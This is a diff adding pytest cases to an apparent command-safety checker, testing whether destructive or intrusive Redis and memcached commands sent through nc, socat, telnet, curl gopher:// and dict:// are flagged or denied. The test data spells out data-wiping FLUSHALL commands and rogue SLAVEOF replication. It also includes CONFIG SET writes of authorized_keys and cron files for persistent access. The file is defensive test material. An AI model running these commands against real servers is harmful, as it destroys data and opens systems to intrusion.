@@ -275,3 +275,44 @@ def test_a_statements_file_the_line_shows_is_read_as_the_statements(judge_comman
 @pytest.mark.parametrize("line", ["psql -f migrations/001.sql", "echo 'SELECT 1' > /tmp/q.sql; psql -f /tmp/q.sql"])
 def test_a_statements_file_that_drops_nothing_stays_quiet(judge_command, line):
     assert judge_command(line).decision is Decision.ALLOW, line
+
+
+# -- Redis by another client: raw TCP, gopher://, dict://, and commands printed by a group --------
+
+@pytest.mark.parametrize("cmd, rule", [
+    ("echo FLUSHALL | nc cache 6379", "cloud.database-drop-tool"),
+    ("(echo AUTH pw; echo FLUSHDB) | ncat db.internal 6379", "cloud.database-drop-tool"),
+    ("{ echo AUTH pw; echo FLUSHDB; } | redis-cli", "cloud.database-drop-tool"),
+    ("(printf 'SELECT 2\\r\\n'; printf 'FLUSHDB\\r\\n') | nc -q1 cache 6379", "cloud.database-drop-tool"),
+    ("printf '*1\\r\\n$8\\r\\nFLUSHALL\\r\\n' | busybox nc cache 6379", "cloud.database-drop-tool"),
+    ("printf 'flush_all\\r\\n' | nc memcached 11211", "cloud.database-drop-tool"),
+    ("echo 'SHUTDOWN NOSAVE' | socat - TCP:cache:6379", "cloud.database-drop-tool"),
+    ("curl -s gopher://10.0.0.5:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A", "cloud.database-drop-tool"),
+    ("curl dict://10.0.0.5:6379/flushall", "cloud.database-drop-tool"),
+    ("echo 'SLAVEOF 203.0.113.7 6379' | telnet cache 6379", "cloud.database-replicates"),
+    ("echo 'MODULE LOAD /tmp/x.so' | nc cache 6379", "cloud.database-runs-program"),
+])
+def test_redis_commands_through_a_plain_text_client_are_asked(judge_command, cmd, rule):
+    v = judge_command(cmd)
+    assert v.decision is not Decision.ALLOW and rule in v.rule_ids, (cmd, v.rule_ids)
+
+
+@pytest.mark.parametrize("cmd", [
+    "printf 'CONFIG SET dir /root/.ssh\\r\\nCONFIG SET dbfilename authorized_keys\\r\\nSAVE\\r\\n' | nc 10.0.0.5 6379",
+    "(echo 'CONFIG SET dir /var/spool/cron/'; echo 'CONFIG SET dbfilename root'; echo SAVE) | nc cache 6379",
+    "curl dict://10.0.0.5:6379/config:set:dir:/root/.ssh",
+])
+def test_redis_writing_keys_or_jobs_through_a_plain_text_client_is_denied(judge_command, cmd):
+    assert judge_command(cmd).decision is Decision.DENY, cmd
+
+
+@pytest.mark.parametrize("cmd", [
+    "echo PING | nc cache 6379",
+    "printf 'GET / HTTP/1.0\\r\\n\\r\\n' | nc example.com 80",
+    "(echo GET key; echo INFO) | nc cache 6379",
+    "curl dict://dict.org/d:flushall",
+    "{ echo ls; echo pwd; } | sh",
+])
+def test_plain_text_clients_saying_nothing_destructive_stay_allowed(judge_command, cmd):
+    v = judge_command(cmd)
+    assert v.decision is Decision.ALLOW, (cmd, v.rule_ids)
